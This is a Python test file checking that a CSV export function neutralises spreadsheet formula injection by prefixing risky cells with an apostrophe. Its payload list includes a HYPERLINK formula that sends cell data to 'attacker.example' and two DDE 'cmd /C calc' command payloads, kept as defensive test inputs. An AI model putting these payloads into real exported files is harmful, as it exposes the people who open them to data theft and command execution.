"""Formula payloads come out neutralised in CSV downloads.

(The one XLSX the app writes, the donor report's, has its own read-back test:
``tests/test_report.py::test_the_xlsx_never_runs_text_as_a_formula``.)

Files are read back with the standard ``csv`` module and openpyxl (what a
spreadsheet would see), and each cell is compared with the value written:
a payload must come back as itself behind a leading apostrophe, anything
else exactly as it was.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd

from core.csv_safety import safe_csv

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Verify your account")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN = ["Peshawar", "شکایت درج نہیں ہوئی", "a - b", "first line\rsecond line", "#N/A", ""]


def register() -> pd.DataFrame:
    n = len(PAYLOADS) + len(PLAIN)
    return pd.DataFrame(
        {
            "inquiry_id": [f"INQ-{i:04d}" for i in range(n)],
            "summary": PAYLOADS + PLAIN,
            "district": list(reversed(PAYLOADS + PLAIN)),
            "=header": range(n),
            "received_at": [datetime(2026, 3, 1, 4, 30, tzinfo=UTC)] * n,
        }
    )


def expected(value: str) -> str:
    """How a text cell must come back: payloads behind an apostrophe."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_csv_cells_are_neutralised_and_rows_stay_whole() -> None:
    frame = register()
    text = safe_csv(frame).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert len(rows) == len(frame) + 1  # a bare CR never splits a row
    assert rows[0] == ["inquiry_id", "summary", "district", "'=header", "received_at"]
    for row, (_, original) in zip(rows[1:], frame.iterrows(), strict=True):
        assert row[1] == expected(original["summary"])
        assert row[2] == expected(original["district"])
        assert row[3] == str(original["=header"])
